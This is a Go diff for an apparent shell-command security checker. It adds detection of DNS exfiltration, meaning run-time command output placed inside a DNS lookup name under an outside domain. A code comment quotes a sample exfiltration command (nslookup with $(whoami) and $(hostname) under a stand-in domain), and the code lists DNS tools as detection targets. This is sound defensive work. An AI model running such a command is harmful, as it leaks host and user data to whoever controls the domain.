@@ -133,6 +133,16 @@ func (j *judge) exfil(c *shell.Cmd) {
 			note(what)
 		}
 	}
+	if dnsTool(c.Name) && secret == "" {
+		for i, a := range c.Args {
+			if i < len(c.FromArg) && len(c.FromArg[i]) > 0 && outsideName(a) {
+				// nslookup $(whoami).$(hostname).x.example.io: the name carries what the
+				// commands print to whoever answers for the domain
+				note("the output of " + c.FromArg[i][0].Name + " in a DNS name")
+				break
+			}
+		}
+	}
 	if secret == "" {
 		return
 	}
@@ -197,6 +207,25 @@ func anyRemote(args []string) bool {
 // dnsTool: programs that resolve names: a secret substituted into the name is sent to whoever serves the
 // domain (DNS exfiltration).
 // (Switches, not maps: a package-level map is built at every hook start.)
+// outsideName reports a DNS name built from a run-time value and a literal domain that is not
+// the cluster's or the network's own ($(cmd).x.example.io; not $(svc).default.svc.cluster.local).
+func outsideName(a string) bool {
+	i := strings.LastIndex(a, shell.Dyn)
+	if i < 0 {
+		return false
+	}
+	rest := strings.ToLower(strings.TrimSuffix(a[i+1:], "."))
+	if !strings.HasPrefix(rest, ".") || strings.Count(rest, ".") < 2 {
+		return false
+	}
+	for _, local := range []string{".local", ".internal", ".lan", ".localhost", ".svc", ".home.arpa", ".test", ".example", ".invalid"} {
+		if strings.HasSuffix(rest, local) {
+			return false
+		}
+	}
+	return true
+}
+
 func dnsTool(name string) bool {
 	switch name {
 	case "dig", "nslookup", "host", "drill", "resolvectl", "getent":
